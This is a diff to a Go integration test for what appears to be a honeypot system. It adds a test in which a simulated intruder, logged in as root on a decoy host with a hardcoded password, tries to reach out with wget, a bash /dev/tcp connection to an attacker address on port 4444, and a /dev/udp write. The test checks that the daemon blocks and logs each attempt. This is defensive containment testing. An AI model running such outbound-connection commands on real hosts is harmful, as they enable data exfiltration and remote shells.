@@ -1,11 +1,13 @@
 package lab
 
 import (
+	"bufio"
 	"encoding/json"
 	"fmt"
 	"net"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -52,6 +54,49 @@ func host(t *testing.T, engine *enginetest.Engine) string {
 	return all.String()
 }
 
+// noWayOut has an intruder who is root in the real sshd of gate reach out, while the LAN is
+// watched.
+func noWayOut(t *testing.T, lan enginetest.LAN, d *daemontest.Daemon) {
+	file := filepath.Join(t.TempDir(), "pcap")
+	watch := exec.Command("tcpdump", "-i", enginetest.Bridge, "-n", "-U", "--immediate-mode", "-Z", "root", "-w", file,
+		"src host "+gate+" and not arp and not tcp src port 22")
+	stderr, err := watch.StderrPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := watch.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = watch.Process.Kill(); _ = watch.Wait() })
+	if line, err := bufio.NewReader(stderr).ReadString('\n'); err != nil || !strings.Contains(line, "listening on") {
+		t.Fatalf("tcpdump says %q, %v", line, err)
+	}
+	out := lan.Attack(t, "sshpass", "-p", "hunter22", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "root@"+gate,
+		`exec 2>/dev/null
+timeout 3 wget -q -t 1 -O - http://192.0.2.80/
+timeout 3 bash -c 'echo out > /dev/tcp/`+enginetest.AttackerAddr+`/4444'
+echo out > /dev/udp/192.0.2.53/53
+id -u`)
+	if !strings.HasSuffix(out, "\n0\n") {
+		t.Fatalf("the intruder sees %q", out)
+	}
+	for _, want := range []string{
+		"protocol:tcp dst_ip:192.0.2.80 dst_port:80", "protocol:tcp dst_port:4444 dst_ip:" + enginetest.AttackerAddr,
+		"protocol:udp dst_ip:192.0.2.53 dst_port:53",
+	} {
+		daemontest.WaitFor(t, want, func() bool { return len(d.Logs(t, "event:egress_blocked decky:gate "+want)) > 0 })
+	}
+	if err := watch.Process.Signal(os.Interrupt); err != nil {
+		t.Fatal(err)
+	}
+	if err := watch.Wait(); err != nil {
+		t.Fatal(err)
+	}
+	if left, err := exec.Command("tcpdump", "-n", "-t", "-r", file).Output(); err != nil || len(left) > 0 {
+		t.Errorf("this left, %v:\n%s", err, left)
+	}
+}
+
 // TestWithEngine attacks five deckies in containers, changes them while they run, and takes
 // them down.
 func TestWithEngine(t *testing.T) {
@@ -75,6 +120,7 @@ func TestWithEngine(t *testing.T) {
 		t.Errorf("the attacker sees the hardware addresses %v", macs)
 	}
 
+	t.Run("no way out", func(t *testing.T) { noWayOut(t, lan, d) })
 	t.Run("mutate", func(t *testing.T) {
 		command(t, "mutate", "--data", dir, "--decky", "data")
 		daemontest.WaitFor(t, "decky_mutated", func() bool { return len(d.Logs(t, "event:decky_mutated decky:data")) == 1 })
